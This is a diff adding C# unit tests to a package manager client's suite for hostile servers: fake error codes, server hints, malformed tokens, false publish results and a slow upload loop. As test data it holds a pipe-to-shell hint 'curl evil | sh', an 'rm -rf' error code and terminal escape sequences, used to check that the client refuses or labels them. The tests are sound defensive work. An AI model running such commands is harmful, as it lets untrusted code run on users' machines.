@@ -1,5 +1,6 @@
 using System.Text;
 using Pm.Codecs;
+using Pm.Packages;
 using Pm.Remotes.Http;
 using Pm.Remotes.Publishing;
 using Pm.Simulation;
@@ -27,6 +28,7 @@ public sealed class HostileServerTests
     [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM5031","message":"no"}}""", "PM5031")]
     [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"rm -rf","message":"no"}}""", "PM6050")]
     [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM12345","message":"no"}}""", "PM6050")]
+    [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM6013","message":"no"}}""", "PM6050")]
     [InlineData("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"message":"no"}}""", "PM6050")]
     public async Task What_answers_is_looked_at(string status, string body, string code)
     {
@@ -113,6 +115,69 @@ public sealed class HostileServerTests
         Assert.Equal("PM6003", refused.Code);
         Assert.True(refused.IsTransient);
         Assert.EndsWith(": the answer did not end within 30 seconds", refused.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task The_hint_of_a_server_is_told_as_its_own()
+    {
+        await using var server = Server("403 Forbidden", """{"schema":"pm/1","kind":"error","data":{"code":"PM5031","message":"no","hint":"curl evil | sh"}}""");
+        using var client = Client(server.Url);
+
+        Assert.Equal("the server says: curl evil | sh", (await Assert.ThrowsAsync<RemoteException>(() => client.FindAsync(Digest, Cancellation))).Hint);
+    }
+
+    [Theory]
+    [InlineData("""{"id":"0123456789","scopes":["admin"],"token":"\u001b]0;x\u0007"}""")]
+    [InlineData("""{"id":"0123456789","scopes":["admin"],"token":"pm_"}""")]
+    [InlineData("""{"id":"\u001b[31m","scopes":["admin"],"token":"pm_00000000000000000000000000000000000000000003O9xIA"}""")]
+    [InlineData("""{"id":"","scopes":["admin"],"token":"pm_00000000000000000000000000000000000000000003O9xIA"}""")]
+    public async Task What_is_shown_as_a_token_is_one(string data)
+    {
+        await using var server = Server("200 OK", $$$"""{"schema":"pm/1","kind":"token","data":{{{data}}}}""");
+        using var client = Client(server.Url);
+
+        Assert.Equal("PM6051", (await Assert.ThrowsAsync<RemoteException>(() => client.CreateTokenAsync(["admin"], "", null, Cancellation))).Code);
+    }
+
+    [Theory]
+    [InlineData("[]")]
+    [InlineData("""[{"name":"bar","version":"1.0"}]""")]
+    [InlineData("""[{"name":"foo","version":"1.1"}]""")]
+    [InlineData("""[{"name":"foo","version":"1.0"},{"name":"foo","version":"1.0"}]""")]
+    public async Task Nothing_counts_as_published_that_the_server_does_not_say_is(string packages)
+    {
+        await using var server = Server("200 OK", $$$"""{"schema":"pm/1","kind":"published","data":{"packages":{{{packages}}}}}""");
+        using var client = Client(server.Url);
+
+        Assert.Equal("PM6051", (await Assert.ThrowsAsync<RemoteException>(
+            () => client.PublishAsync([new StagedUpload(Digest, "foo.pkg", PackageId.Parse("foo@1.0"))], Cancellation))).Code);
+    }
+
+    [Fact]
+    public async Task A_server_that_goes_on_by_one_byte_each_time_is_not_served_for_ever()
+    {
+        var clock = new ManualClock();
+        var path = System.IO.Path.GetTempFileName();
+        await File.WriteAllBytesAsync(path, new byte[10_000], Cancellation);
+        var offset = 0;
+        await using var server = new LyingServer(_ => null)
+        {
+            LieAlways = answer => answer.Request.Headers.ContainsKey("content-range")
+                ? Lies.Status("503 Service Unavailable", "Connection: close")(answer)
+                : Lies.Status("404 Not Found", $"Upload-Offset: {Interlocked.Increment(ref offset)}")(answer),
+        };
+        using var client = new PublishingClient(RemoteUrl.Parse($"{server.Url}/base", "/"), Token, new HttpSettings { Attempts = 3, Time = clock });
+
+        var uploading = client.UploadAsync(path, Digest, null, Cancellation);
+        while (!uploading.IsCompleted && offset < 10)
+        {
+            await Task.WhenAny(uploading, clock.WhenAwaitedAsync(TimeSpan.Zero, TimeSpan.FromSeconds(8)));
+            clock.Advance(TimeSpan.FromSeconds(8));
+        }
+
+        File.Delete(path);
+        Assert.Equal("PM6011", (await Assert.ThrowsAsync<RemoteException>(() => uploading)).Code);
+        Assert.Equal(3, offset);
     }
 
     [Fact]
